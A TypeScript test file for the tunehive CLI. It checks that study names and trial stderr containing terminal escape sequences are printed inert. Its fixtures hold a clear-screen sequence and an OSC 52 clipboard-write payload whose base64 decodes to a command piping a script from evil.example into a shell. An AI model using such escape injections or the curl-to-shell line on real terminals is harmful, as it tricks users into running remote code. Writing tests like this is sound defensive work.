/**
 * The tunehive command prints what a study's author and its trial programs wrote (names,
 * reasons with the last line of stderr) to someone else's terminal: through the real CLI against
 * a real coordinator, no escape sequence or control character reaches it.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestStack, type TestStack } from '../helpers/stack.js';
import { TEST_ADMIN_TOKEN } from '../helpers/env.js';
import { runCli } from '../helpers/processes.js';

const tunehive = async (args: string[], env: Record<string, string>) => {
  const r = await runCli(args, { env });
  return { code: r.code, out: r.stdout + r.stderr };
};

// What a terminal would act on: ESC, BEL, C1 introducers, CR and the other controls.
const ACTIVE = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
const CLEAR = '\x1b[2J\x1b[H';
const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07';

describe('tunehive CLI: untrusted text is printed inert', () => {
  let stack: TestStack;
  beforeAll(async () => { stack = await startTestStack('cli-escapes', { workers: 1, slots: 1 }); });
  afterAll(async () => stack?.close());

  it('a study name and a stderr tail with ESC[2J and OSC 52', async () => {
    const program = `process.stderr.write(${JSON.stringify(`warming up\nboom${CLEAR}${CLIPBOARD}\r\n`)}); process.exit(3)`;
    const { status, body } = await stack.api('POST', '/api/v1/studies', {
      name: `evil${CLEAR}${CLIPBOARD}study`, objective: { metric: 'score', direction: 'maximize' }, searchSpace: { x: { type: 'float', min: 0, max: 1 } },
      maxTrials: 1, maxFailedTrials: 0, trial: { command: [process.execPath, '-e', program] },
    });
    expect(status).toBe(201);
    await stack.waitForStudy(body.id);
    // The escapes really are stored and served: the CLI is the last line of defence.
    const trial = (await stack.api('GET', `/api/v1/trials/${body.id}.0`)).body;
    expect(trial.reason).toContain(CLIPBOARD);
    expect(trial.stderrTail).toContain(CLEAR);

    const env = { TUNEHIVE_API: stack.coordinator.httpUrl, TUNEHIVE_TOKEN: TEST_ADMIN_TOKEN };
    const [status_, trials] = await Promise.all([tunehive(['status', body.id], env), tunehive(['trials', body.id], env)]);
    expect(status_.code, status_.out).toBe(0);
    expect(trials.code, trials.out).toBe(0);
    expect(status_.out).toContain(`"evilstudy": FAILED`);
    expect(trials.out).toMatch(/FAILED .* exited with code 3: boom\n/);
    for (const { out } of [status_, trials]) {
      expect(out).not.toMatch(ACTIVE);
      expect(out).not.toContain('52;c;');
    }
  }, 60_000);
});
